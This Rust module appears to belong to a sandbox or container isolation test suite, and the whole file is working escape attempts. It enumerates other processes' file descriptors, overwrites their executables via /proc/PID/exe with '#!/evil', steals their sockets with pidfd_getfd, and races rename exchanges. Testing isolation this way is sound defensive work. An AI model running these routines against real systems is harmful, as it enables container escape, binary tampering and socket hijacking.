//! Steps that go on attacking until a file says stop, and tell how far they came.

use std::collections::{BTreeMap, BTreeSet};
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::MetadataExt;

use serde_json::json;

use crate::Outcome;

/// Findings that are told at most.
const MOST: usize = 20;

/// Looks into every other process: descriptors beside the standard streams, and the host's root.
pub fn pry(stop: &str) -> Outcome {
    let (mut looks, mut seen, mut found) = (0_u64, BTreeSet::new(), BTreeSet::new());
    until(stop, || {
        for pid in others() {
            looks += 1;
            seen.insert(pid);
            // Roots of containers here have no such directory.
            if fs::symlink_metadata(format!("/proc/{pid}/root/usr")).is_ok() {
                found.insert("root of the host".to_owned());
            }
            for entry in fs::read_dir(format!("/proc/{pid}/fd"))
                .into_iter()
                .flatten()
            {
                let Ok(entry) = entry else { break };
                let number = entry.file_name().to_string_lossy().parse::<u32>();
                if number.is_ok_and(|number| number > 2)
                    && let Ok(target) = fs::read_link(entry.path())
                    // What a program opens of its own at its start.
                    && !target.starts_with("/proc")
                    // By which a failed execve(2) is told: the new program's memory belongs to the user namespace
                    // already, and the kernel has not closed it yet.
                    && !target.to_string_lossy().starts_with("socket:")
                {
                    found.insert(target.to_string_lossy().into_owned());
                }
            }
        }
        found.len() < MOST
    });
    Ok(json!({"looks": looks, "processes": seen.len(), "found": found}))
}

/// Opens the programs of other processes that are not this one's, and writes to them as soon as it can.
pub fn seize(stop: &str) -> Outcome {
    let own = fs::metadata("/proc/self/exe")?.ino();
    let mut held: BTreeMap<u64, File> = BTreeMap::new();
    let (mut written, mut refusals) = (0_u64, BTreeSet::new());
    until(stop, || {
        for pid in others() {
            let Ok(program) = File::open(format!("/proc/{pid}/exe")) else {
                continue;
            };
            let inode = program.metadata().map_or(own, |meta| meta.ino());
            if inode != own {
                held.entry(inode).or_insert(program);
            }
        }
        for program in held.values() {
            let path = format!("/proc/self/fd/{}", program.as_raw_fd());
            match OpenOptions::new().write(true).open(path) {
                Ok(mut file) => written += u64::from(file.write_all(b"#!/evil\n").is_ok()),
                Err(error) => drop(refusals.insert(error.raw_os_error())),
            }
        }
        true
    });
    Ok(json!({"programs": held.len(), "written": written, "refusals": refusals}))
}

/// Copies the sockets of other processes, and keeps them.
pub fn hold(stop: &str) -> Outcome {
    use rustix::fs::{FileType, fstat};
    use rustix::process::{Pid, PidfdFlags, PidfdGetfdFlags, pidfd_getfd, pidfd_open};
    let mut held = BTreeMap::new();
    until(stop, || {
        for pid in others()
            .into_iter()
            .filter(|pid| !held.contains_key(pid))
            .collect::<Vec<_>>()
        {
            let Some(Ok(process)) =
                Pid::from_raw(pid.cast_signed()).map(|pid| pidfd_open(pid, PidfdFlags::empty()))
            else {
                continue;
            };
            let copies = (3..64)
                .filter_map(|number| pidfd_getfd(&process, number, PidfdGetfdFlags::empty()).ok());
            let is_socket = |file: &OwnedFd| {
                fstat(file)
                    .is_ok_and(|stat| FileType::from_raw_mode(stat.st_mode) == FileType::Socket)
            };
            let sockets: Vec<OwnedFd> = copies.filter(is_socket).collect();
            if !sockets.is_empty() {
                held.insert(pid, sockets);
            }
        }
        true
    });
    Ok(json!({"held": held.len()}))
}

/// Exchanges what two names stand for, again and again.
pub fn swap(one: &str, other: &str, stop: &str) -> Outcome {
    use rustix::fs::{CWD, RenameFlags, renameat_with};
    let mut count = 0_u64;
    until(stop, || {
        // The file that says stop is looked for now and then.
        (0..64).for_each(|_| {
            count += u64::from(renameat_with(CWD, one, CWD, other, RenameFlags::EXCHANGE).is_ok());
        });
        true
    });
    Ok(json!({"swaps": count}))
}

fn until(stop: &str, mut attempt: impl FnMut() -> bool) {
    while attempt() && fs::symlink_metadata(stop).is_err() {}
    while fs::symlink_metadata(stop).is_err() {
        std::thread::sleep(std::time::Duration::from_millis(2));
    }
}

/// Every process but this one.
fn others() -> Vec<u32> {
    let own = std::process::id();
    fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|entry| entry.file_name().to_string_lossy().parse().ok())
        .filter(|pid| *pid != own)
        .collect()
}
